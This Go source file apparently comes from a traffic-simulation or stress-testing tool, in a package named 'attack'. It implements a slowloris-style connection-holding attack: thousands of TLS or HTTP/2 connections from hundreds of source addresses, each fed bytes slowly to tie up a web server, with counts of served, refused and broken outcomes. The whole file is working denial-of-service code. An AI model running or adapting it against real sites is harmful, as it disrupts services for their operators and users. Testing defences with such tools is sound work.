package attack

import (
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"io"
	"net"
	"net/netip"
	"os"
	"strconv"
	"sync"
	"time"
)

// opening is how many connections a second are opened where the scenario does
// not say; a connection that the site closed is opened again after reopen.
const (
	opening = 500
	reopen  = time.Second
)

// holder keeps many connections open, each used badly in the same way.
type holder struct {
	sources     Sources
	opening     float64 // a second
	connections int
	use         func(ctx context.Context, t Target, from netip.Addr, i uint64) (Outcome, error)
}

// hold reads the parameters of a kind that holds connections; 5,000 from 500
// addresses unless the scenario says otherwise.
func (p Params) hold(use func(ctx context.Context, t Target, from netip.Addr, i uint64) (Outcome, error)) (Attack, error) {
	s, rate, err := p.spread(usual{addresses: 500, rate: 1, networks: "many"})
	if err != nil {
		return nil, err
	}
	if p.Total == 0 && p.Rate == 0 {
		rate = opening
	}
	n := p.Connections
	if n == 0 {
		n = 5_000
	}
	return &holder{s, rate, n, use}, nil
}

// Run counts each connection as one offered, with the outcome that the site gave
// it; one that is still held when ctx ends has none.
func (h *holder) Run(ctx context.Context, t Target, c *Counter) error {
	t = t.counted(c)
	var holding sync.WaitGroup
	defer holding.Wait()
	g := newGate(h.opening)
	for i := range uint64(h.connections) {
		holding.Go(func() {
			for g.pass(ctx) {
				c.Offer()
				o, err := h.use(ctx, t, h.sources.At(i), i)
				if ctx.Err() != nil {
					return
				}
				if err != nil {
					o = Broken
				}
				c.End(o)
				if !pause(ctx, reopen) {
					return
				}
			}
		})
	}
	return nil
}

// grip is a connection that is held. Close ends it at once, without a farewell
// that the site might not read.
type grip struct {
	net.Conn
	protocol string
	stop     func() bool
}

// grip connects, offering protocols, and holds until ctx or Close ends it.
func (t Target) grip(ctx context.Context, from netip.Addr, protocols []string) (*grip, error) {
	within, cancel := context.WithTimeout(ctx, patience)
	defer cancel()
	conn, protocol, err := t.secure(within, from, &ticket{}, protocols)
	if err != nil {
		return nil, err
	}
	g := &grip{Conn: conn, protocol: protocol}
	g.stop = context.AfterFunc(ctx, func() { bottom(conn).Close() })
	return g, nil
}

func (g *grip) Close() error {
	g.stop()
	return bottom(g.Conn).Close()
}

// bottom is the connection below TLS.
func bottom(c net.Conn) net.Conn {
	if t, ok := c.(*tls.Conn); ok {
		return t.NetConn()
	}
	return c
}

// drip writes what next gives, once in every interval, until the site answers or
// closes. What it answered in HTTP/1.1 is judged by its status; a close without
// an answer is Broken, as is any end of HTTP/2.
func (g *grip) drip(every time.Duration, next func() []byte) Outcome {
	var got [512]byte
	for {
		g.SetWriteDeadline(time.Now().Add(patience))
		if _, err := g.Write(next()); err != nil {
			return judge(got[:g.last(got[:])])
		}
		until := time.Now().Add(every)
		for {
			g.SetReadDeadline(until)
			n, err := g.Read(got[:])
			if errors.Is(err, os.ErrDeadlineExceeded) {
				break
			}
			if err != nil || g.protocol != "h2" {
				return judge(got[:n])
			}
		}
	}
}

// last reads what the site said before it closed.
func (g *grip) last(b []byte) int {
	g.SetReadDeadline(time.Now().Add(time.Second))
	n, _ := io.ReadAtLeast(g, b, 12)
	return n
}

// judge sorts the beginning of an answer in HTTP/1.1.
func judge(b []byte) Outcome {
	if len(b) < 12 || !bytes.HasPrefix(b, []byte("HTTP/1.")) {
		return Broken
	}
	if status, err := strconv.Atoi(string(b[9:12])); err != nil || status >= 400 {
		return Refused
	}
	return Served
}
